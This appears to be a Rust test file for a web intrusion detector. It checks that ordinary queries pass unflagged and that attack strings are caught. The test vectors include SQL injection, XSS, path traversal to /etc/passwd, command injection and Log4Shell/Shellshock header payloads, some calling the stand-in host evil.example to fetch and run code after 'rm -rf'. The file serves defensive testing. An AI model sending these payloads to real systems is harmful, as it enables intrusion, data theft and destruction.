//! What is taken for an attempt to break in, and what is not.

use super::*;

#[test]
fn all_patterns_are_patterns() {
    assert!(
        [&*TARGETS, &*HEADERS, &*ENCODED_PATHS]
            .iter()
            .all(|set| set.0.is_some())
    );
}

#[test]
fn what_honest_people_ask_for_is_nothing() {
    for target in [
        "/search?q=O%27Reilly+union+of+students+select",
        "/search?q=Western+Union+Select+Service",
        "/search?q=trade+union+select+committee,+2020",
        "/search?q=rock+%27n%27+roll+--+the+best",
        "/search?q=%22cats%22+and+%22dogs%22",
        "/search?q=1+or+2+people",
        "/search?q=select+a+shirt+from+our+shop",
        "/search?q=drop+table+lamps%3B+create+user+account",
        "/search?q=how+to+use+the+%3Cscript%3E+tag",
        "/search?q=benchmark+(2024)",
        "/search?q=sleep+(8+hours)",
        "/search?q=AT%26T%3B+cat+food",
        "/search?q=if+x+%3C+y+and+y+%3E+z",
        "/search?q=bash+scripting+%7C+linux",
        "/search?q=100%25+cotton",
        "/search?q=it%27s+5+o%27clock+and+all%27s+well",
        "/search?q=%22quoted%22+or+%27quoted%27",
        "/search?q=onload%3D1+or+not",
        "/login?next=/user/7/..%2Fsettings",
        "/a/b/../c.png",
        "/redirect?url=https%3A%2F%2Fexample.org%2Fa%2F..%2Fb",
        "/js?path=../../lib/app.js",
        "/files/report%20(final)%20v2.pdf",
        "/t?filter=%7B%22id%22%3A%5B1%2C2%5D%7D",
        "/t?q=a%3D1%3Bb%3D2",
        "/api?where=id%3D5+and+name%3DBob",
        "/wiki/C%2B%2B",
        "/wiki/SQL_injection",
        "/wiki//etc",
        "/p?price=%3C100&sort=-id",
        "/p?t=2024-01-01T00%3A00%3A00%2B02%3A00",
        "/p?email=o%27brien%40example.org",
        "/p?text=%E2%80%A6%20na%C3%AFve",
        "/p?html=%3Cb%3Ebold%3C%2Fb%3E",
        "/p?q=user%3Aid|name",
        "/p?a=1&id",
        "/a?code=YWJj%2FZGVm%3D%3D",
        "/?utm_source=x&utm_campaign=spring--sale",
        "/x?q=-5+or+so",
        "/x?q=javascript%3A+the+good+parts",
    ] {
        assert_eq!(in_target(target.as_bytes()), BTreeSet::new(), "{target}");
    }
}

#[test]
fn what_tools_send_is_seen() {
    use Flaw::{Command, Script, SqlInjection, Traversal};
    for (target, flaw) in [
        ("/p?id=1+UNION+SELECT+1,2,3--", SqlInjection),
        ("/p?id=-1/**/union/**/all/**/select/**/null,null", SqlInjection),
        (
            "/p?id=1%20uNiOn%20sElEcT%20username,password,3%20from%20users",
            SqlInjection,
        ),
        ("/p?id=1%27+or+%271%27%3D%271", SqlInjection),
        ("/p?id=1+or+1%3D1", SqlInjection),
        ("/p?user=admin%27--+", SqlInjection),
        ("/p?user=admin%27%23", SqlInjection),
        ("/p?id=1%3BDROP+TABLE+users", SqlInjection),
        ("/p?id=1+and+sleep(5)", SqlInjection),
        ("/p?id=1%27%3B+waitfor+delay+%270:0:5%27--", SqlInjection),
        ("/p?id=1+and+extractvalue(1,concat(0x7e,version()))", SqlInjection),
        (
            "/p?id=(select+table_name+from+information_schema.tables)",
            SqlInjection,
        ),
        ("/p?id=1%2527%2520or%25201%253D1", SqlInjection),
        ("/p?q=%3Cscript%3Ealert(1)%3C/script%3E", Script),
        ("/p?q=%3CScRiPt+src%3D//evil.example/x.js%3E", Script),
        ("/p?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E", Script),
        ("/p?q=%3Csvg/onload%3Dalert(1)%3E", Script),
        ("/p?q=%22+onmouseover%3D%22alert(1)", Script),
        ("/p?url=javascript:alert(1)", Script),
        ("/p?q=%253Cscript%253Ealert(1)%253C/script%253E", Script),
        ("/../../etc/passwd", Traversal),
        ("/static/%2e%2e/%2e%2e/etc/passwd", Traversal),
        ("/static/..%2f..%2fsecret", Traversal),
        ("/static/%252e%252e%252f%252e%252e%252fsecret", Traversal),
        ("/cgi-bin/.%2e/.%2e/bin/sh", Traversal),
        ("/static/..%c0%af..%c0%afwinnt", Traversal),
        ("/p?file=../../../../etc/passwd", Traversal),
        ("/p?file=..%2F..%2Fwp-config.php", Traversal),
        ("/p?file=/etc/passwd", Traversal),
        ("/p?page=php://filter/convert.base64-encode/resource=x", Traversal),
        ("/x.php%00.jpg", Traversal),
        ("/p?host=a;cat+/etc/passwd", Command),
        ("/p?host=a%7Cid", Command),
        ("/p?host=%60whoami%60", Command),
        ("/p?host=$(uname+-a)", Command),
        ("/p?host=a%26%26wget+http://evil.example/x", Command),
        (
            "/shell?cd+/tmp;rm+-rf+*;wget+http://evil.example/m;sh+/tmp/m",
            Command,
        ),
        ("/p?x=$%7Bjndi:ldap://evil.example/a%7D", Command),
    ] {
        assert!(in_target(target.as_bytes()).contains(&flaw), "{target}");
    }
}

#[test]
fn headers_are_looked_at() {
    let header = |value: &'static [u8]| {
        [Header {
            name: "User-Agent",
            value,
        }]
    };
    for (value, is_odd) in [
        (&b"() { :;}; /bin/bash -c id"[..], true),
        (b"${jndi:ldap://evil.example/a}", true),
        (b"${${::-j}ndi:rmi://evil.example}", true),
        (b"Mozilla/5.0 (X11; {a})", false),
        (b"{\"a\": \"${b}\"}", false),
    ] {
        assert_eq!(in_headers(&header(value)).is_some(), is_odd, "{value:?}");
    }
}

#[test]
fn the_longest_target_takes_a_moment_only() {
    for part in [
        "%27+or+",
        "../",
        "union+select+",
        "%3Cscript+",
        "((((",
        "%2525",
        "a;",
    ] {
        let target = format!("/{part}?x={}", part.repeat(20_000 / part.len()));
        in_target(target.as_bytes());
    }
}
